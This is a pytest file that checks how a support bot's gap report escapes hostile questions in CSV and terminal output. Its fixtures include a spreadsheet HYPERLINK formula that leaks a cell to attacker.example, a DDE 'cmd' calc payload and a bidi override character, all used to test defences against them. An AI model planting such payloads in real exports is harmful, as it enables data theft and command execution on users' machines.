"""`supportbot report gaps` output a support lead opens: CSV in a spreadsheet, the table in a terminal."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from supportbot.store import ConversationStore

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Refund status")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_FORMULA = "-2+3 how do I change my delivery address?"
SPLIT_QUESTION = "Do you ship parcels\nto Norway?\r\nAnd to Iceland?"
REVERSED_QUESTION = "Can I pay \u202eby bitcoin in the app?"


def run_report(url: str, *args: str) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "supportbot", "report", "gaps", "--url", url, *args]
    return subprocess.run(command, check=False, capture_output=True, text=True, timeout=300, env=os.environ.copy())


def declined_store(tmp_path: Path, *questions: str) -> str:
    """A store where each of `questions` got the fallback (as stored before control characters were kept out)."""
    url = f"sqlite:///{tmp_path / 'c.sqlite3'}"
    store = ConversationStore(url)
    for n, question in enumerate(questions):
        store.add_message("web", f"c{n}", "user", question)
        store.add_message("web", f"c{n}", "assistant", "…", kind="fallback")
    store.close()
    return url


@pytest.mark.slow
def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote_and_json_keeps_the_words(tmp_path: Path):
    url = declined_store(tmp_path, FORMULA, AT_FORMULA, MINUS_FORMULA)
    as_csv, as_json = run_report(url, "--format", "csv"), run_report(url, "--format", "json")
    assert as_csv.returncode == 0 and as_json.returncode == 0, as_csv.stderr + as_json.stderr
    header, *rows = list(csv.reader(io.StringIO(as_csv.stdout)))
    examples = sorted(row[header.index("example")] for row in rows)
    assert examples == sorted("'" + question for question in (FORMULA, AT_FORMULA, MINUS_FORMULA))
    assert sorted(group["example"] for group in json.loads(as_json.stdout)) == sorted((FORMULA, AT_FORMULA, MINUS_FORMULA))


@pytest.mark.slow
def test_a_question_with_line_breaks_or_a_bidi_override_keeps_its_table_row_on_one_line_as_written(tmp_path: Path):
    url = declined_store(tmp_path, SPLIT_QUESTION, REVERSED_QUESTION)
    result = run_report(url)
    assert result.returncode == 0, result.stderr
    _header, *rows, total = result.stdout.splitlines()
    assert total == "2 question(s) in 2 group(s)" and len(rows) == 2  # one line per group, however the question was typed
    assert all(row.split()[0] == "1" and "declined 1" in row for row in rows)
    assert "\u202e" not in result.stdout  # it reversed the rest of the line, the "why" column with it
    assert any("Can I pay \\u202eby bitcoin in the app?" in row for row in rows)
    assert any("Do you ship parcels⏎to Norway?⏎And to Iceland?" in row for row in rows)


@pytest.mark.slow
def test_csv_keeps_a_question_with_line_breaks_in_one_quoted_cell(tmp_path: Path):
    url = declined_store(tmp_path, "Do you ship parcels\nto Norway?")
    result = run_report(url, "--format", "csv")
    assert result.returncode == 0, result.stderr
    header, row = list(csv.reader(io.StringIO(result.stdout)))
    assert row[header.index("example")] == "Do you ship parcels\nto Norway?"  # a spreadsheet shows the line break
